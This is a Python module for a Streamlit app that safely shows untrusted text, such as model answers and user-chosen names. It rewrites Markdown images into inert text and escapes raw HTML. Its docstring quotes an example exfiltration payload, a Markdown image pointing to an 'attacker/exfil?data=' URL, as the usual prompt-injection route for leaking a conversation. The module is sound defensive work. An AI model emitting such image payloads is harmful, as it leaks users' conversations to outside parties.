"""Showing untrusted text (model answers, document passages, names people chose) safely.

Streamlit renders Markdown in every viewer's browser, and a Markdown image
(``![x](http://attacker/exfil?data=...)``) makes that browser fetch its URL: the usual
prompt-injection route to leak a conversation. Two ways out, both pure string functions:

- :func:`safe_markdown` keeps the formatting of untrusted Markdown but turns every image into
  text (a frame emoji, its alt text and its address as code, never fetched) and every piece
  of raw HTML into visible text. The text is parsed with markdown-it (CommonMark, plus the
  GitHub tables, strikethrough and footnotes Streamlit also renders), so images are found
  where a Markdown renderer finds them, not by pattern matching; code spans and fenced code
  stay untouched. Anything the rewrite cannot place exactly falls back to plain text.
- :func:`plain_text` shows a name or title exactly as typed: every Markdown character is
  escaped, so nothing in it formats, links or loads. Use it for anything drawn through a
  Markdown-rendering call (``st.markdown``, ``st.caption``, ``st.subheader``, alerts, toasts,
  and the labels of buttons and expanders, which render Markdown images too).
"""

from __future__ import annotations

import re
import string
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from mdit_py_plugins.footnote import footnote_plugin

_PUNCTUATION = frozenset(string.punctuation)
#: Characters that start or close Markdown (and Streamlit's ``:color[...]``, ``$math$``,
#: ``:emoji:``) anywhere in a line; ``.``, ``-``, ``(`` and the like only act at its start.
_INLINE_SYNTAX = frozenset("\\`*_[]<>!|~$&:#")
_LINE_START = re.compile(r"^(?:[-+=>#]|\d+[.)])")
_MAX_PASSES = 4
IMAGE_MARK = "🖼️"


@dataclass(frozen=True)
class _Span:
    """Where the inline parser found an image or raw HTML, in its inline source ``src``."""

    owner: Any  # the block-level inline token being parsed
    src: str
    start: int
    end: int
    kind: str  # "image" or "html"
    alt: str = ""
    url: str = ""


def plain_text(text: str | None) -> str:
    """``text`` as literal text for a Markdown renderer, on one line: nothing in it formats,
    links or loads. Only characters that could mean something are escaped, so the result
    still reads well where it is shown as source (tests, logs)."""
    flat = " ".join((text or "").split())
    escaped = "".join("\\" + ch if ch in _INLINE_SYNTAX else ch for ch in flat)
    start = _LINE_START.match(escaped)
    if start:  # a list marker, heading, quote or setext underline only counts at the start
        end = start.end()
        escaped = escaped[: end - 1] + "\\" + escaped[end - 1 :]
    return escaped


def safe_markdown(text: str | None) -> str:
    """Untrusted Markdown without images or raw HTML that a browser would act on."""
    current = text or ""
    if "![" not in current and "<" not in current:
        return current  # no image starts without "![", no raw HTML without "<"
    for _ in range(_MAX_PASSES):
        rewritten = _rewrite_once(current)
        if rewritten is None:  # a span could not be placed exactly: give up on formatting
            return _literal_block(current)
        if rewritten == current:
            return current
        current = rewritten
    return current if not _has_unsafe(current) else _literal_block(current)


def has_remote_content(text: str) -> bool:
    """True when ``text`` rendered as Markdown would hold an image or raw HTML."""
    return _has_unsafe(text)


# --- parsing ---------------------------------------------------------------------------------


class _Recorder:
    """Wraps markdown-it's image and raw-HTML rules to note where each match starts and ends."""

    def __init__(self) -> None:
        self.spans: list[_Span] = []
        self.owner: Any = None
        self._inside_image = 0

    def parse_inlines(self, state: Any) -> None:
        """markdown-it's core inline step, noting which block token each span belongs to."""
        for token in state.tokens:
            if token.type == "inline":
                self.owner = token
                token.children = [] if token.children is None else token.children
                state.md.inline.parse(token.content, state.md, state.env, token.children)
        self.owner = None

    def wrap(self, kind: str, rule: Any) -> Any:
        def recording_rule(state: StateInline, silent: bool) -> bool:
            start = state.pos
            before = len(state.tokens)
            if kind == "image":
                self._inside_image += 1
            try:
                matched = rule(state, silent)
            finally:
                if kind == "image":
                    self._inside_image -= 1
            # an image inside an image's alt text is parsed from another source: its outer
            # image is rewritten as a whole, so only outermost matches are recorded
            if matched and not silent and not self._inside_image:
                self.spans.append(self._span(kind, state, start, before))
            return matched

        return recording_rule

    def _span(self, kind: str, state: StateInline, start: int, before: int) -> _Span:
        alt = url = ""
        images = [t for t in state.tokens[before:] if t.type == "image"]
        if kind == "image" and images:
            url = str(images[-1].attrGet("src") or "")
            alt = images[-1].content
        return _Span(self.owner, state.src, start, state.pos, kind, alt, url)


def _parser(recorder: _Recorder | None) -> MarkdownIt:
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"]).use(footnote_plugin)
    if recorder is not None:
        md.core.ruler.at("inline", recorder.parse_inlines)
        md.inline.ruler.at("image", recorder.wrap("image", _rule(md, "image")))
        md.inline.ruler.at("html_inline", recorder.wrap("html", _rule(md, "html_inline")))
    return md


def _rule(md: MarkdownIt, name: str) -> Any:
    for rule in md.inline.ruler.__rules__:
        if rule.name == name:
            return rule.fn
    raise LookupError(name)


@lru_cache(maxsize=1)
def _checker() -> MarkdownIt:
    return _parser(None)


def _has_unsafe(text: str) -> bool:
    return _unsafe_in(_checker().parse(text))


def _unsafe_in(tokens: list[Any]) -> bool:
    for token in tokens:
        if token.type in ("image", "html_inline", "html_block"):
            return True
        if token.children and _unsafe_in(token.children):
            return True
    return False


# --- rewriting -------------------------------------------------------------------------------


def _rewrite_once(text: str) -> str | None:
    """One pass: each image and HTML piece replaced in ``text``; None if one cannot be placed."""
    recorder = _Recorder()
    tokens = _parser(recorder).parse(text)
    lines = text.split("\n")
    edits: dict[int, list[tuple[int, int, str]]] = {}
    pending: dict[int, list[_Span]] = {}
    for span in recorder.spans:
        pending.setdefault(id(span.owner), []).append(span)
    for token in tokens:
        if token.type == "html_block" and token.map:
            for number in range(*token.map):
                line = lines[number]
                edits.setdefault(number, []).extend(
                    (i, i + 1, "\\<") for i, ch in enumerate(line) if ch == "<"
                )
        if token.type != "inline" or not token.map:
            continue
        for span in pending.pop(id(token), []):
            placed = _place(span, token.map[0], lines)
            if placed is None:
                return None
            edits.setdefault(placed[0], []).append(placed[1:])
    if pending:  # recorded for a token with no place in the document
        return None
    return "\n".join(_apply(line, edits.get(n, [])) for n, line in enumerate(lines))


def _place(span: _Span, first_line: int, lines: list[str]) -> tuple[int, int, int, str] | None:
    """The span's line number, start and end columns in the document, and its replacement."""
    piece = span.src[span.start : span.end]
    if "\n" in piece:
        return None
    row = span.src.count("\n", 0, span.start)
    col = span.start - (span.src.rfind("\n", 0, span.start) + 1)
    content_line = span.src.split("\n")[row]
    number = first_line + row
    if number >= len(lines):
        return None
    line = lines[number]
    for offset in _offsets(line, content_line):
        begin = offset + col
        if line[begin : begin + len(piece)] == piece:
            return number, begin, begin + len(piece), _replacement(span, piece)
    return None


def _offsets(line: str, content_line: str) -> list[int]:
    """Where the inline source's line may start in the document line (suffix match first)."""
    found: list[int] = []
    stripped = content_line.rstrip()
    if stripped and line.rstrip().endswith(stripped):
        found.append(len(line.rstrip()) - len(stripped))
    position = line.find(content_line)
    while position != -1:
        found.append(position)
        position = line.find(content_line, position + 1)
    return found


def _apply(line: str, edits: list[tuple[int, int, str]]) -> str:
    for start, end, replacement in sorted(edits, reverse=True):
        line = line[:start] + replacement + line[end:]
    return line


def _replacement(span: _Span, piece: str) -> str:
    if span.kind == "html":
        return piece.replace("<", "\\<")
    alt = plain_text(span.alt) or "image"
    url = span.url.replace("|", "%7C").replace("`", "%60")
    where = f" `{url}`" if url else ""
    return f"{IMAGE_MARK} {alt} \\(image not loaded{':' if where else ''}{where}\\)"


def _literal_block(text: str) -> str:
    """Every line of ``text`` with all Markdown escaped: shown as typed, nothing rendered."""
    return "  \n".join(
        "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in line) for line in text.split("\n")
    )
